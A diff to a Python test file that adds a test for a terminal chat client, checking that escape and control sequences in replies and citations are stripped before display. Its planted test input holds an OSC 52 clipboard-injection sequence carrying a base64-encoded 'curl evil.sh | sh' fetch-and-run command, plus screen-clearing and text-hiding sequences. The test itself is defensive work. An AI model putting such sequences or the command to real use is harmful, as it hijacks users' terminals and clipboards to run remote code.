@@ -35,3 +35,20 @@ async def test_an_operator_reply_between_turns_is_shown_once(monkeypatch, capsys
     assert out.count("I've asked a person to take over.") == 1  # the turn's reply, not again by the follower
     assert "acme> A person has joined." in out and "a person> Hi, Dana here." in out
     assert out.index("A person has joined.") < out.index("Hi, Dana here.")
+
+
+async def test_control_sequences_in_what_is_shown_do_not_reach_the_terminal(monkeypatch, capsys):
+    # A reply quotes the knowledge base (a Markdown or text file, a PDF, are read with their control
+    # characters) and an operator's text is theirs: an escape sequence in either reached the terminal
+    # as a command to it (OSC 52 writes the clipboard, others retitle or clear it, or hide text).
+    planted = "Reset it in Settings.\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b[2J\x9b31m done"
+    typed = iter(["how do I reset?", ""])
+
+    async def ask(text: str) -> dict:
+        return {"reply": planted, "citations": [{"title": "Guide\x1b[8m", "source": "g.md", "url": None}]}
+
+    monkeypatch.setattr("builtins.input", lambda prompt: next(typed))
+    assert await terminal_chat.converse("acme", ask) == 0
+    out = capsys.readouterr().out
+    assert "\x1b" not in out and "\x07" not in out and "\x9b" not in out
+    assert "acme> Reset it in Settings.]52;c;Y3VybCBldmlsLnNoIHwgc2g=[2J31m done" in out and "[1] Guide[8m — g.md" in out
